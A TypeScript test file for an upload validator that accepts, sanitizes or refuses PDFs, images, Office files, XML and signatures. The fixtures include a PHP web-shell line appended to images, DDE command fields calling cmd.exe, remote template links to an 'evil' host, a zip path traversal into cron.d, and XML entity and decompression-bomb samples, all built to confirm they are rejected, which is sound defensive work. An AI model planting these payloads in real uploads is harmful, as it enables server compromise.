import type { FileKind } from '@ipoteka-office/contract/common/file-kinds.ts'
import { describe, expect, it } from 'vitest'
import {
  jpeg,
  office,
  pdf,
  png,
  signature,
  tiff,
  webp,
  type ZipPart,
  zipOf,
} from '#testing/file-specimens.ts'
import { inspect, reasonFor } from '#testing/inspect.ts'

const xml = (text: string) => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>${text}`)
const mebibyte = 1_048_576

describe('what is sound is taken as it is', () => {
  const pem = Buffer.from(
    `-----BEGIN CMS-----\n${signature()
      .toString('base64')
      .replace(/(.{64})/g, '$1\n')}\n-----END CMS-----\n`,
  )
  it.each<[string, FileKind, () => Buffer | Promise<Buffer>, object]>([
    ['a PDF', 'PDF', () => pdf({ pages: 3 }), { pages: 3 }],
    [
      'a PDF that opens at a page, with a link to a page',
      'PDF',
      () =>
        pdf({
          catalog: '/OpenAction [3 0 R /Fit]',
          page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /F 4 /A << /S /GoTo /D [3 0 R /Fit] >> >>]',
        }),
      { pages: 1 },
    ],
    [
      'a PDF whose font is called AA',
      'PDF',
      () =>
        pdf({
          page: '/Resources << /Font << /AA << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>',
        }),
      { pages: 1 },
    ],
    ['a JPEG', 'JPEG', () => jpeg(40, 30), { pages: 1, width: 40, height: 30 }],
    ['a PNG', 'PNG', () => png({ width: 300, height: 200 }), { pages: 1, width: 300, height: 200 }],
    ['a TIFF', 'TIFF', () => tiff(), { pages: 1, width: 40, height: 30 }],
    ['a text of Office', 'DOCX', () => office('docx'), { pages: null }],
    [
      'a text with a chart',
      'DOCX',
      () => office('docx', [{ name: 'word/embeddings/Book1.xlsx', content: office('xlsx') }]),
      {},
    ],
    ['a table of Office', 'XLSX', () => office('xlsx'), {}],
    ['XML', 'XML', () => xml('<a xmlns="urn:x"><b c="1">текст</b></a>'), {}],
    [
      'XML in windows-1251',
      'XML',
      () => Buffer.from('<?xml version="1.0" encoding="windows-1251"?><a>\xf2\xe5\xf1\xf2</a>', 'latin1'),
      {},
    ],
    ['a signature in DER', 'SIG', () => signature(), {}],
    ['a signature in PEM', 'SIG', () => pem, {}],
    ['a signature in Base64', 'SIG', () => Buffer.from(signature().toString('base64')), {}],
  ])('%s', async (_name, kind, make, found) => {
    const { verdict } = await inspect(await make())
    expect(verdict).toMatchObject({ ok: true, kind, isRewritten: false, warnings: [], ...found })
  })

  it('a CSV, where tables are taken', async () => {
    const kinds = ['XLSX', 'CSV'] as const
    expect((await inspect(Buffer.from('код;название\n1;Один\n'), kinds)).verdict).toMatchObject({
      kind: 'CSV',
    })
    expect(await reasonFor(Buffer.from('код;название\n1;Один\n'))).toMatch(/^Принимаются файлы PDF/)
  })
})

describe('an image', () => {
  it.each<[string, () => Promise<Buffer> | Buffer, RegExp]>([
    [
      'of enormous dimensions',
      () => png({ width: 50_000, height: 50_000, rows: Buffer.alloc(1_000) }),
      /50000 × 50000 точек слишком велико/,
    ],
    ['very long', () => png({ width: 40_000, height: 10 }), /40000 × 10 точек/],
    [
      'that promises more rows than it has',
      () => png({ width: 3_000, height: 3_000, rows: Buffer.alloc(1_000) }),
      /повреждено/,
    ],
    [
      'that moves',
      () => png({ width: 10, height: 10, chunks: [['acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0])]] }),
      /Анимированные/,
    ],
    ['that is cut', async () => (await jpeg(800, 600)).subarray(0, 1_500), /повреждено/],
    [
      'of a heading alone',
      () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(100)]),
      /повреждено/,
    ],
    ['of a kind that is not taken', () => webp(), /^Принимаются файлы PDF, JPEG/],
    [
      'that is a drawing of lines',
      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      /SVG/,
    ],
  ])('%s is refused', async (_name, make, reason) => {
    expect(await reasonFor(await make())).toMatch(reason)
  })

  it.each<[string, () => Promise<Buffer> | Buffer]>([
    ['JPEG', () => jpeg()],
    ['PNG', () => png({ width: 40, height: 30 })],
  ])('%s loses what hangs behind it', async (_kind, make) => {
    const content = await make()
    const { verdict, out } = await inspect(Buffer.concat([content, Buffer.from('<?php system($_GET[0]) ?>')]))
    expect(verdict).toMatchObject({
      ok: true,
      isRewritten: true,
      width: 40,
      warnings: [expect.stringMatching(/посторонние данные/)],
    })
    expect(out?.equals(content)).toBe(true)
  })
})

describe('a file of Office is refused', () => {
  const part = (name: string, text = 'x'): ZipPart => ({ name, content: Buffer.from(text) })
  const rels = (type: string, target: string) =>
    part(
      'word/_rels/settings.xml.rels',
      `<Relationships><Relationship Id="r" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    )
  it.each([
    ['with macros', office('docx', [part('word/vbaProject.bin')]), /макросы/],
    [
      'with macros under another name',
      office('docx', [], '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
      /макросы/,
    ],
    ['with a control', office('docx', [part('word/activeX/activeX1.xml')]), /макросы/],
    ['with a program inside', office('docx', [part('word/embeddings/oleObject1.bin')]), /вложенные файлы/],
    ['with an archive inside', office('xlsx', [part('xl/media/a.zip')]), /вложенные файлы/],
    [
      'with a template from elsewhere',
      office('docx', [rels('attachedTemplate', 'http://evil/t.dotm')]),
      /из сети/,
    ],
    [
      'with an object from a shared folder',
      office('docx', [rels('oleObject', 'file://server/share/a')]),
      /из сети/,
    ],
    [
      'with a command to another program',
      office('docx', [part('word/x.xml', '<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>')]),
      /запускают другие программы/,
    ],
    [
      'with entities of its own',
      office('docx', [part('word/y.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a/>')]),
      /определения XML/,
    ],
    [
      'that unpacks without end',
      office('docx', [{ name: 'word/media/a.emf', content: Buffer.alloc(200 * mebibyte) }]),
      /слишком большой объём/,
    ],
    [
      'that lies about its size',
      office('docx', [{ name: 'word/media/a.emf', content: Buffer.alloc(mebibyte), size: 100 }]),
      /слишком большой объём|повреждён/,
    ],
    [
      'with ten thousand parts',
      office(
        'docx',
        Array.from({ length: 10_000 }, (_, at) => part(`word/${at}.bin`)),
      ),
      /слишком большой объём/,
    ],
    ['that climbs out of its folder', office('docx', [part('../../etc/cron.d/evil')]), /недопустимые имена/],
    ['with a password', office('docx', [{ ...part('word/z.xml'), flags: 1 }]), /паролем/],
    ['that is cut', office('docx').subarray(0, 300), /повреждён/],
    ['that is a plain archive', zipOf([part('a.txt')]), /^Принимаются файлы/],
  ])('%s', async (_name, content, reason) => {
    expect(await reasonFor(content)).toMatch(reason)
  })

  it('but not for a template of its own computer', async () => {
    const local = rels('attachedTemplate', 'file:///C:\\Users\\Ivan\\Normal.dotm')
    expect((await inspect(office('docx', [local]))).verdict.ok).toBe(true)
  })
})

describe('other files are refused', () => {
  it.each([
    ['XML with entities', xml('<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb">]><a>&b;</a>'), /DOCTYPE/],
    ['XML that is not well-formed', xml('<a><b></a>'), /разметка неверна/],
    ['XML without end', xml('<a>'), /разметка неверна/],
    ['XML of great depth', xml('<a>'.repeat(300) + '</a>'.repeat(300)), /слишком сложен/],
    [
      'a page of the web',
      Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>'),
      /веб-страница/,
    ],
    [
      'XML that a browser shows as a page',
      xml('<a><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></a>'),
      /веб-страница/,
    ],
    [
      'a signature that is none',
      Buffer.concat([Buffer.from([0x30, 0x82, 0x00, 0x10]), Buffer.alloc(16, 1)]),
      /не подпись/,
    ],
    ['a signature with something behind it', Buffer.concat([signature(), Buffer.from('MZ')]), /не подпись/],
    ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]), /^Принимаются файлы/],
    ['a program before a PDF', Buffer.concat([Buffer.from('MZ'), pdf()]), /^Принимаются файлы/],
    [
      'plain text',
      Buffer.from('просто текст, который ничем не является, кроме текста'),
      /^Принимаются файлы/,
    ],
  ])('%s', async (_name, content, reason) => {
    expect(await reasonFor(content)).toMatch(reason)
  })
})
